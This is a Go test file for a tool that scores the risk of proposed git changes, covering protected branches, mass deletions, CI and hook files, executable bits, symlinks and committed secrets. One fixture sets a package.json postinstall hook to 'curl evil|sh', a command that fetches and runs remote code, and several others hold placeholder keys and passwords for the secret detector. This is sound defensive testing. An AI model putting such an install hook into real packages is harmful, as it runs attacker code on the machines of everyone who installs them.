package approval_test

import (
	"reflect"
	"strings"
	"testing"

	"github.com/go-git/go-git/v5/plumbing/filemode"

	"github.com/airlock-dev/airlock/approval"
	"github.com/airlock-dev/airlock/internal/change"
)

// files makes a content function from two maps.
func files(old, new map[string]string) approval.Content {
	return func(p string, newSide bool) ([]byte, bool) {
		m := old
		if newSide {
			m = new
		}
		s, ok := m[p]
		return []byte(s), ok
	}
}

func codes(flags []approval.Flag) []string {
	var out []string
	for _, f := range flags {
		out = append(out, f.Severity.String()+" "+f.Code+" "+f.Path)
	}
	return out
}

func create(p string) approval.FileChange {
	return approval.FileChange{Path: p, Op: change.Create, NewMode: filemode.Regular, Size: 10}
}

// Every flag is raised by a minimal request that has just that risk.
func TestEachRiskFlag(t *testing.T) {
	plain := func(fs ...approval.FileChange) approval.Request {
		return approval.Request{Ref: "refs/heads/feature", Files: fs}
	}
	many := make([]approval.FileChange, 10)
	for i := range many {
		many[i] = approval.FileChange{Path: "old/" + string(rune('a'+i)), Op: change.Delete, OldMode: filemode.Regular}
	}
	cases := []struct {
		name  string
		req   approval.Request
		old   map[string]string
		new   map[string]string
		rules approval.Rules
		want  []string
	}{
		{name: "nothing risky", req: plain(create("src/a.go")), new: map[string]string{"src/a.go": "package a"}},
		{name: "main, by its name alone", req: approval.Request{Ref: "refs/heads/main"}},
		{name: "checked out in the user's working tree", req: approval.Request{Ref: "refs/heads/main", RefRole: approval.BranchCheckedOut, DefaultBranch: "main"}},
		{name: "release/*, by its name alone", req: approval.Request{Ref: "release/1.2"}},
		{name: "the target's default branch", req: approval.Request{Ref: "trunk", DefaultBranch: "trunk", RefRole: approval.BranchDefault}, want: []string{"high protected-ref "}},
		{name: "protected by the host", req: approval.Request{Ref: "v1", RefRole: approval.BranchProtected}, want: []string{"high protected-ref "}},
		{name: "configured", req: approval.Request{Ref: "prod-eu"}, rules: approval.Rules{Protected: []string{"prod-*"}}, want: []string{"high protected-ref "}},
		{name: "configured, checked out", req: approval.Request{Ref: "prod-eu", RefRole: approval.BranchCheckedOut}, rules: approval.Rules{Protected: []string{"prod-*"}}, want: []string{"high protected-ref "}},
		{name: "configured elsewhere", req: approval.Request{Ref: "main"}, rules: approval.Rules{Protected: []string{"prod-*"}}},
		{name: "release/* stays in one component", req: approval.Request{Ref: "release/1/2"}, rules: approval.Rules{Protected: []string{"release/*"}}},
		{name: "release/* protects its branches", req: approval.Request{Ref: "release/1.2"}, rules: approval.Rules{Protected: []string{"release/*"}}, want: []string{"high protected-ref "}},
		{name: "** spans components", req: approval.Request{Ref: "release/1/2"}, rules: approval.Rules{Protected: []string{"release/**"}}, want: []string{"high protected-ref "}},
		{name: "character class", req: approval.Request{Ref: "v2"}, rules: approval.Rules{Protected: []string{"v[0-9]"}}, want: []string{"high protected-ref "}},
		{name: "bad pattern protects nothing", req: approval.Request{Ref: "main"}, rules: approval.Rules{Protected: []string{"[main"}}},
		{name: "new ref", req: approval.Request{Ref: "x", NewRef: true}, want: []string{"medium new-ref "}},
		{name: "many deletions", req: plain(append(many, create("old/keep"))...), want: []string{"medium deletions "}},
		{name: "deletion elsewhere", req: plain(create("src/a.go"), approval.FileChange{Path: "docs/x.md", Op: change.Delete}),
			new: map[string]string{"src/a.go": "x"}, want: []string{"medium deletions docs/x.md"}},
		{name: "deletion among edits", req: plain(create("src/a.go"), approval.FileChange{Path: "src/b.go", Op: change.Delete}), new: map[string]string{"src/a.go": "x"}},
		{name: "workflow", req: plain(create(".github/workflows/ci.yml")), want: []string{"medium ci-or-hooks .github/workflows/ci.yml"}},
		{name: "gitlab", req: plain(create(".gitlab-ci.yml")), want: []string{"medium ci-or-hooks .gitlab-ci.yml"}},
		{name: "husky", req: plain(create(".husky/pre-commit")), want: []string{"medium ci-or-hooks .husky/pre-commit"}},
		{name: "pre-commit", req: plain(create(".pre-commit-config.yaml")), want: []string{"medium ci-or-hooks .pre-commit-config.yaml"}},
		{name: "makefile", req: plain(create("sub/Makefile")), want: []string{"medium runs-on-its-own sub/Makefile"}},
		{name: "package.json scripts", req: plain(approval.FileChange{Path: "package.json", Op: change.Update, OldMode: filemode.Regular, NewMode: filemode.Regular}),
			old:  map[string]string{"package.json": `{"name":"x","scripts":{"test":"jest"}}`},
			new:  map[string]string{"package.json": `{"name":"x","scripts":{"test":"jest","postinstall":"curl evil|sh"}}`},
			want: []string{"medium ci-or-hooks package.json"}},
		{name: "package.json other fields", req: plain(approval.FileChange{Path: "package.json", Op: change.Update, OldMode: filemode.Regular, NewMode: filemode.Regular}),
			old: map[string]string{"package.json": `{"version":"1.0.0","scripts":{"test":"jest"}}`},
			new: map[string]string{"package.json": `{"version":"1.0.1","scripts": {"test": "jest"}}`}},
		{name: "binary", req: plain(approval.FileChange{Path: "a.png", Op: change.Create, NewMode: filemode.Regular, Binary: true}), want: []string{"low binary a.png"}},
		{name: "large", req: plain(approval.FileChange{Path: "big.csv", Op: change.Create, NewMode: filemode.Regular, Size: 2 << 20}), want: []string{"low large-file big.csv"}},
		{name: "exec added", req: plain(approval.FileChange{Path: "run.sh", Op: change.Update, OldMode: filemode.Regular, NewMode: filemode.Executable}), want: []string{"medium executable run.sh"}},
		{name: "exec kept", req: plain(approval.FileChange{Path: "run.sh", Op: change.Update, OldMode: filemode.Executable, NewMode: filemode.Executable})},
		{name: "symlink", req: plain(approval.FileChange{Path: "l", Op: change.Create, NewMode: filemode.Symlink}), new: map[string]string{"l": "target"}, want: []string{"medium symlink l"}},
		{name: "private key", req: plain(create("k.txt")), new: map[string]string{"k.txt": "x\n-----BEGIN RSA PRIVATE KEY-----\nMIIE...\n"}, want: []string{"high secret k.txt"}},
		{name: "openssh key", req: plain(create("k")), new: map[string]string{"k": "-----BEGIN OPENSSH PRIVATE KEY-----"}, want: []string{"high secret k"}},
		{name: "aws", req: plain(create("c.py")), new: map[string]string{"c.py": "key = 'AKIAIOSFODNN7EXAMPLE'\n"}, want: []string{"high secret c.py"}},
		{name: "github token", req: plain(create("c.sh")), new: map[string]string{"c.sh": "export T=ghp_" + strings.Repeat("a1B2", 9) + "\n"}, want: []string{"high secret c.sh"}},
		{name: "password", req: plain(create("app.ini")), new: map[string]string{"app.ini": "[db]\npassword = hunter22\n"}, want: []string{"high secret app.ini"}},
		{name: "api_key", req: plain(create("cfg.yml")), new: map[string]string{"cfg.yml": "api_key: \"sk-live-12345678\"\n"}, want: []string{"high secret cfg.yml"}},
		{name: "secret already there", req: plain(approval.FileChange{Path: "app.ini", Op: change.Update, OldMode: filemode.Regular, NewMode: filemode.Regular}),
			old: map[string]string{"app.ini": "password = hunter22\n"}, new: map[string]string{"app.ini": "password = hunter22\nport = 80\n"}},
		{name: "a path, not a secret", req: plain(create("t.bats")), new: map[string]string{"t.bats": "run bash -c 'PWD=/nix/store; source x'\npassword_file: ./secrets/db\n"}},
		{name: "password placeholder", req: plain(create("a.md")), new: map[string]string{"a.md": "password: ${DB_PASSWORD}\nset password=\n"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := codes(approval.Assess(&c.req, c.rules, files(c.old, c.new)))
			if !reflect.DeepEqual(got, c.want) {
				t.Errorf("flags %q, want %q", got, c.want)
			}
		})
	}
}

// The flag says where a secret is, never what it is.
func TestSecretFlagNeverQuotesTheSecret(t *testing.T) {
	token := "ghp_" + strings.Repeat("Zz9", 12)
	req := approval.Request{Ref: "x", Files: []approval.FileChange{create("t.env.txt")}}
	flags := approval.Assess(&req, approval.Rules{}, files(nil, map[string]string{"t.env.txt": "a\nTOKEN=" + token + "\n"}))
	if len(flags) != 1 || !strings.Contains(flags[0].Message, "line 2") || strings.Contains(flags[0].Message, token) {
		t.Errorf("flags %+v", flags)
	}
}

func TestFlagsMostSevereFirst(t *testing.T) {
	req := approval.Request{Ref: "main", RefRole: approval.BranchDefault, Files: []approval.FileChange{
		{Path: "a.bin", Op: change.Create, NewMode: filemode.Regular, Binary: true},
		{Path: "run.sh", Op: change.Create, NewMode: filemode.Executable},
	}}
	got := codes(approval.Assess(&req, approval.Rules{}, nil))
	want := []string{"high protected-ref ", "medium executable run.sh", "low binary a.bin"}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("order %q, want %q", got, want)
	}
}

// A rename within .github/workflows is one CI flag, not one for each
// path; a rename out of it is flagged at its new path, naming the old.
func TestRenameFlagsOnePerKind(t *testing.T) {
	wf := map[string]string{"x": "on: push\n"}
	for _, c := range []struct {
		to   string
		want []string
	}{
		{".github/workflows/ci2.yml", []string{"medium ci-or-hooks .github/workflows/ci2.yml"}},
		{"ci.yml.off", []string{"medium ci-or-hooks ci.yml.off"}},
	} {
		req := approval.Request{Ref: "refs/heads/feature", Files: []approval.FileChange{{Path: c.to, From: ".github/workflows/ci.yml",
			Op: change.Rename, OldMode: filemode.Regular, NewMode: filemode.Regular}}}
		content := files(map[string]string{c.to: wf["x"]}, map[string]string{c.to: wf["x"]})
		if got := codes(approval.Assess(&req, approval.Rules{}, content)); !reflect.DeepEqual(got, c.want) {
			t.Errorf("rename to %s: flags %q, want %q", c.to, got, c.want)
		}
	}
}
